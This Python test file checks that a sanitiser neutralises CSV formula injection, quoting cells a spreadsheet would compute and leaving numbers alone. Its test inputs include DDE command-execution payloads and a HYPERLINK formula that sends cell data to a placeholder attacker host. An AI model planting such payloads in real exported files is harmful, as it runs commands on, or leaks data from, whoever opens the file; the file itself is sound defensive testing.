"""What a spreadsheet program would compute is written as text; numbers stay numbers."""

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from flows.cli import main
from transforms.spreadsheet_text import as_text

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "-A1",
    "+49 30 1234-A",
]
NUMBERS = [
    "-1",
    "+1",
    "-1.5",
    "-1,5",
    "-1.234,56",
    "-1'234",
    "- 3",
    "+3 %",
    "-0.5%",
    "-1e-5",
    "-.5",
    "-1 234",
    "-",
    "--",
    "+",
    "0",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_gets_an_apostrophe_once(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"
    assert as_text(as_text(cell)) == f"'{cell}"


@pytest.mark.parametrize("cell", [*NUMBERS, "", "Visits", "a=b", "2026-01-01", "'=1"])
def test_a_number_and_any_other_text_stay(cell: str) -> None:
    assert as_text(cell) == cell


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_every_number_stays(number: float) -> None:
    assert as_text(str(number)) == str(number)
    assert as_text(str(number).replace(".", ",")) == str(number).replace(".", ",")


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_result_holds_no_formula_in_any_cell(tmp_path: Path, separator: str) -> None:
    header = [
        "series",
        "baseline_year",
        "baseline",
        "current_year",
        "current",
        "target_year",
        "target",
        "direction",
        "=evil",
    ]
    formulas = [cell for cell in FORMULAS if not cell.startswith(("\t", "\r"))]
    table = io.StringIO()
    writer = csv.writer(table, delimiter=separator)
    writer.writerow(header)
    writer.writerows([[cell, 2020, -10, 2024, -5, 2030, -1, "up", cell] for cell in formulas])
    writer.writerow(["bad", 2020, "=1+1", 2024, 5, 2030, 1, "up", "x"])
    (tmp_path / "in.csv").write_text(table.getvalue(), encoding="utf-8")
    done = CliRunner().invoke(main, ["judge", str(tmp_path / "in.csv"), "--output", str(tmp_path / "out.csv")])
    assert done.exit_code == 0, done.output
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file, delimiter=separator))
    for row in rows:
        for cell in row:
            assert as_text(cell) == cell
    assert [row[2] for row in rows[1:]] == ["-10"] * len(formulas) + ["'=1+1"]
    assert rows[0][8] == "'=evil"
